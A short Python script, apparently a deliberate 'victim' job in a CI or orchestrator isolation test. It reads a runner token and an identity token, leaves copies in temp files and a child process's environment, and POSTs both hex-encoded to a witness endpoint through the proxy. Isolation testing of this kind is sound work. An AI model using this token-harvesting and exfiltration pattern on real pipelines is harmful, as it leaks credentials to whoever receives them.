"""A job that holds its credentials where jobs hold them, lets an accomplice have them, and waits. Standard library."""

import os
import subprocess
import sys
import tempfile

with open(os.environ["ORCHESTRATOR_TOKEN_FILE"]) as file:
    runner_token = file.read().strip()
answer = subprocess.run(
    ["orchestrator-token", "--audience", sys.argv[1]], check=True, capture_output=True, text=True, timeout=30
)
id_token = answer.stdout.strip()

# In a file, in the environment of a child, in memory, in shared memory, and behind an abstract socket.
MARK = "victims-own-" + "mark"
for folder in ("/tmp", "/dev/shm", os.getcwd()):
    with tempfile.NamedTemporaryFile("w", dir=folder, prefix="victim-", delete=False) as kept:
        kept.write(f"{MARK} {id_token}")
child = subprocess.Popen(["sleep", "600"], env={"MARK": MARK, "ID_TOKEN": id_token})

import http.client

RUN = open("/proc/sys/kernel/random/uuid").read().strip()


def visit(word):
    host, port = os.environ["http_proxy"].removeprefix("http://").split(":")
    connection = http.client.HTTPConnection(host, int(port), timeout=600)
    connection.request("POST", "/".join([os.environ["WITNESS"], os.environ["ORCHESTRATOR_JOB_ID"], RUN, word]))
    return connection.getresponse().status


visit("secret-" + runner_token.encode().hex())
visit("secret-" + id_token.encode().hex())
visit("gate")
child.kill()
child.wait()
